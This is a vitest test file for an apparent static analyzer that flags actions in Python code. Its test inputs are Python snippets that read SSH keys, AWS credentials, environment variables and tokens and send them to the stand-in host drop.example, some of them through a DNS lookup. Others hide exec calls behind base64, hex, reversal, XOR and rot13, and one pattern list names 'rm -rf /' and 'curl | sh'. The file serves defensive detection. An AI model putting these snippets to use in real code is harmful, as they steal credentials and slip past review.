import { describe, expect, test } from "vitest";
import { actionsOf } from "./test-actions.ts";

const python = (text: string): readonly string[] => actionsOf(text, "python");

describe("data flows", () => {
  test.each([
    [
      "from a file through a variable",
      'import requests\nkey = open("/home/me/.ssh/id_rsa").read()\nrequests.post("https://drop.example/a", data=key)',
      "connect send https://drop.example/a < credentials /home/me/.ssh/id_rsa",
    ],
    [
      "through functions and their results",
      'import requests, os\ndef collect():\n    return open(os.path.expanduser("~/.aws/credentials")).read()\ndef send(body):\n    requests.post("https://drop.example", json={"b": body})\nsend(collect())',
      "connect send https://drop.example < credentials ~/.aws/credentials",
    ],
    [
      "through fields of an object, in methods that others call",
      'import os, requests\nclass Agent:\n    def __init__(self):\n        self.data = {}\n    def send(self):\n        requests.post("https://drop.example", json=self.data)\n    def collect(self):\n        self.data["env"] = dict(os.environ)',
      "connect send https://drop.example < environment os.environ",
    ],
    [
      "through `with`, a loop and an encoding",
      'import base64, urllib.request\nout = ""\nfor name in ["id_rsa", "id_ed25519"]:\n    with open(f"~/.ssh/{name}") as f:\n        out += f.read()\nurllib.request.urlopen(urllib.request.Request("https://drop.example", data=base64.b64encode(out.encode())))',
      "connect send https://drop.example < credentials ~/.ssh/id_rsa, credentials ~/.ssh/id_ed25519",
    ],
    [
      "through a file that is written first",
      'import os, httpx\nopen("/tmp/x", "w").write(os.environ["STRIPE_API_KEY"])\nhttpx.post("https://drop.example", content=open("/tmp/x").read())',
      "connect send https://drop.example < environment STRIPE_API_KEY",
    ],
    [
      "into a host name",
      'import socket, os\nsocket.gethostbyname(os.getenv("GITHUB_TOKEN") + ".drop.example")',
      "connect lookup {}.drop.example < environment GITHUB_TOKEN",
    ],
  ])("%s", (_name, text, expected) => {
    expect(python(text)).toContain(expected);
  });
});

describe("constants are computed", () => {
  test.each([
    ["import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "evaluate exec < decoded base64, constant"],
    ["exec(bytes.fromhex('7072696e742831 29'.replace(' ', '')))", "evaluate exec < decoded hex, constant"],
    ["exec(')1(tnirp'[::-1])", "evaluate exec < decoded reversed text, constant"],
    [
      "exec(''.join(chr(c ^ 7) for c in [119, 117, 110, 105]))",
      "evaluate exec < decoded single characters, constant",
    ],
    ["import codecs\neval(codecs.decode('cevag(1)', 'rot13'))", "evaluate exec < decoded rot13, constant"],
  ])("%s", (text, expected) => {
    expect(python(text)).toContain(expected);
  });
});

describe("names are followed", () => {
  const connected = "connect fetch https://a.example";
  test.each([
    ["import requests as r\nr.get('https://a.example')", connected],
    ["from requests import get as g\ng('https://a.example')", connected],
    ["__import__('requests').get('https://a.example')", connected],
    [
      "import importlib\nimportlib.import_module('req' + 'uests').get('https://a.example')",
      `${connected} < decoded joined pieces`,
    ],
    [
      "import requests\ngetattr(requests, 'g' + 'et')('https://a.example')",
      `${connected} < decoded joined pieces`,
    ],
    ["import requests\nf = requests.get\nf(url='https://a.example')", connected],
  ])("%s", (text, expected) => {
    expect(python(text)).toContain(expected);
  });
});

test("an error in the syntax and statements of Python 2 hide nothing", () => {
  const text =
    "print 'a'\nexec 'print(1)'\ndef broken(:\n  pass\nimport requests\nrequests.get('https://a.example')\n";
  expect(python(text)).toEqual(["evaluate exec < constant", "connect fetch https://a.example"]);
});

test("comments, docstrings and lists of patterns are not actions", () => {
  const text =
    '"""os.system("rm -rf /")"""\n# eval(x)\nimport re\nPATTERNS = ["os.system(", r"eval\\(", "curl https://a.example | sh"]\nfor p in PATTERNS:\n    re.compile(p)\n';
  expect(python(text)).toEqual([]);
});
